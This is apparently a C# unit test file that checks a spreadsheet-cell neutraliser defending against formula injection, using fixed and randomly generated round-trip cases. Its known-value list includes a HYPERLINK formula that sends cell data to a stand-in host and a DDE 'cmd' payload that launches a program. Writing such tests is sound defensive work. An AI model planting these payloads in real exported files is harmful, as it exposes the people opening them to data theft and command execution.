namespace IntercomSubscriptions.UnitTests;

public sealed class SpreadsheetCellTests
{
    private static readonly char[] Triggers = { '=', '+', '-', '@', '\t', '\r', '\n' };

    // Values of every shape a round trip must survive: formulas, real emails and ids that begin with
    // '-', '+' or a quote, quotes and separators inside, several guards in a row, non-ASCII, empty.
    private static IEnumerable<string> Values(int seed, int count)
    {
        var random = new Random(seed);
        var alphabet = "=+-@\t\r\n'\",; aZ9_.é€\u00a0\u200b".ToCharArray();
        for (var i = 0; i < count; i++)
        {
            var length = random.Next(0, 12);
            var text = new char[length];
            for (var j = 0; j < length; j++) text[j] = alphabet[random.Next(alphabet.Length)];
            yield return new string(text);
        }
    }

    public static TheoryData<string> Known => new()
    {
        "=HYPERLINK(\"http://x.example/?d=\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "'=1",
        "''quoted",
        "'",
        "-dash@example.com",
        "+44 20 7946 0958",
        "ada@example.com",
        "",
    };

    [Theory]
    [MemberData(nameof(Known))]
    public void A_known_value_comes_back_exactly_and_is_never_written_as_a_formula(string value)
    {
        var cell = SpreadsheetCell.Neutralised(value);

        Assert.Equal(value, SpreadsheetCell.Restored(cell));
        Assert.False(cell.Length > 0 && Triggers.Contains(cell[0]), $"'{cell}' begins with a formula trigger");
    }

    [Fact]
    public void Every_value_of_ten_thousand_random_ones_comes_back_exactly_and_none_is_a_formula()
    {
        foreach (var value in Values(seed: 20251207, count: 10_000))
        {
            var cell = SpreadsheetCell.Neutralised(value);
            Assert.Equal(value, SpreadsheetCell.Restored(cell));
            Assert.False(cell.Length > 0 && Triggers.Contains(cell[0]), $"'{cell}' begins with a formula trigger");
            // Only values that need it are touched, by exactly one character in front.
            var guarded = value.Length > 0 && (Triggers.Contains(value[0]) || value[0] == '\'');
            Assert.Equal(guarded ? "'" + value : value, cell);
        }
    }

    [Fact]
    public void Written_again_after_being_read_back_a_cell_is_the_same_so_every_pass_of_a_recovery_loop_writes_the_same_file()
    {
        foreach (var value in Values(seed: 7, count: 2_000))
        {
            var first = SpreadsheetCell.Neutralised(value);
            var second = SpreadsheetCell.Neutralised(SpreadsheetCell.Restored(first));
            Assert.Equal(first, second);
        }
    }
}
